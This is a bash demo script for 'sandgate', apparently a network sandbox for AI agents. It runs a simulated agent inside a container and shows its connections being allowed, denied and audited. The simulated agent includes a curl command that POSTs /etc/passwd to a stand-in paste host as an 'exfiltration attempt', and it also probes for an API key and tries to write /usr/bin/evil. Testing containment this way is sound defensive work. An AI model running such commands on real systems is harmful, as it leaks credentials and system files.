#!/usr/bin/env bash
# make demo: an "agent" script runs inside `sandgate run --backend container`:
# its own namespaces, a read-only view of the host's /usr, no capabilities,
# and one way out: every TCP connection is redirected by nftables to the
# gateway that `sandgate run` started for it. It reaches an allowed API, is
# refused elsewhere, cannot resolve names, cannot see the host's secrets,
# and then we read the audit trail. Everything stays on this machine: the
# "internet" is two local HTTPS servers with made-up names.
set -u
. "$(dirname "$0")/../tests/lib/common.sh"
need curl openssl python3 jq nft ip
[ "$(id -u)" = 0 ] || { echo "make demo needs root (namespaces, nftables)"; exit 1; }
bold() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

bold "1. Two upstream HTTPS servers on loopback: api.example.test (allowed) and paste.example.test (not)"
mkcerts api.example.test paste.example.test
upstream api --cert api.example.test;     API_PORT=$UP_PORT API_LOG=$UP_LOG
upstream paste --cert paste.example.test; PASTE_PORT=$UP_PORT PASTE_LOG=$UP_LOG
echo "api.example.test   -> 127.0.0.1:$API_PORT"
echo "paste.example.test -> 127.0.0.1:$PASTE_PORT"

# No listeners here: `sandgate run` starts a gateway on a private copy of
# this file with its own transparent/DNS ports and admin socket.
cat >"$T/sandgate.yaml" <<YAML
version: 1
gateway:
  workers: 1
  resolver:
    hosts:                         # the operator's own answers for the demo names
      api.example.test: [127.0.0.1]
      paste.example.test: [127.0.0.1]
  limits: { handshake_timeout: 2s, drain_timeout: 1s }
audit: { path: $T/audit.jsonl, fsync: batch }
floor:
  deny:
    - { name: no-metadata, cidrs: [169.254.0.0/16] }
sandboxes:
  "agent-*":
    allow:
      - { name: api, domains: [api.example.test], ports: [$API_PORT] }
    deny:
      - { name: no-paste, domains: [paste.example.test], ports: [443, $PASTE_PORT] }
default: deny
YAML
bold "2. The policy"
sed 's/^/    /' "$T/sandgate.yaml"
"$SANDGATE" policy check "$T/sandgate.yaml" || exit 1

mkdir -p "$T/ws"
cp "$T/certs/ca.pem" "$T/ws/upstream-ca.pem"
cat >"$T/ws/agent.sh" <<SH
#!/bin/sh
# What an AI agent's generated code might do. The made-up addresses
# (203.0.113.x) never leave the host: sandgate connects to what IT resolved.
say() { printf '  agent> %s\n' "\$*"; }
say "whoami: \$(id -un) in \$(hostname), capabilities: \$(grep CapEff /proc/self/status | cut -f2)"
say "OPENAI_API_KEY in here: \${OPENAI_API_KEY:-<not set: the host's environment is not inherited>}"
say "GET https://api.example.test:$API_PORT/v1/models"
curl -sS --max-time 5 --cacert upstream-ca.pem \\
  --resolve api.example.test:$API_PORT:203.0.113.10 https://api.example.test:$API_PORT/v1/models?token=x
echo
say "POST https://paste.example.test:$PASTE_PORT/upload (exfiltration attempt)"
curl -sS --max-time 5 --cacert upstream-ca.pem --resolve paste.example.test:$PASTE_PORT:203.0.113.11 \\
  -d @/etc/passwd https://paste.example.test:$PASTE_PORT/upload 2>&1 | sed 's/^/         /' || true
say "GET https://203.0.113.12:$API_PORT/ (an address, no name)"
curl -sS --max-time 5 -k https://203.0.113.12:$API_PORT/ 2>&1 | sed 's/^/         /' || true
say "resolve unlisted.example.net:"
getent hosts unlisted.example.net || echo "         does not resolve"
say "write outside the workspace:"
touch /usr/bin/evil 2>&1 | sed 's/^/         /'
echo "results" > /workspace/report.txt && say "wrote /workspace/report.txt"
exit 3
SH
chmod +x "$T/ws/agent.sh"

bold "3. sandgate run --backend container -- ./agent.sh"
echo "    (a gateway, a namespace behind a veth, one nft table; the sandbox is registered"
echo "     as agent-demo before the script starts; the host holds OPENAI_API_KEY=sk-real-...)"
OPENAI_API_KEY=sk-real-never-in-the-sandbox "$SANDGATE" run -v -c "$T/sandgate.yaml" \
	--backend container --sandbox agent-demo --workspace "$T/ws" -- /workspace/agent.sh \
	2>&1 | sed 's/^sandgate/    sandgate/'
rc=${PIPESTATUS[0]}
sleep 0.2
echo "    exit status of the agent: $rc (its own), report: $(cat "$T/ws/report.txt")"
echo "    api upstream saw:   $(jq -c '{method, path, sni}' "$API_LOG")"
echo "    paste upstream saw: $(wc -l <"$PASTE_LOG") requests"
left=$( (ip netns list; ip -o link; nft list tables) | grep -c 'sgr\|sandgate_' )
echo "    namespaces, interfaces, nft tables left behind: $left"

bold "4. The audit trail: sandgate audit query --sandbox agent-demo"
# (sandbox_start/stop records carry nested addresses/labels, which this
# build's query skips with a warning: hidden here)
"$SANDGATE" audit query --sandbox agent-demo "$T/audit.jsonl" 2>/dev/null | sed 's/^/    /'
echo
echo "    one full record:"
jq -c 'select(.decision == "allow" and .event == "connection")' "$T/audit.jsonl" | head -1 | sed 's/^/    /'
bold "done: allowed, denied, audited, and nothing of the sandbox left on the host"
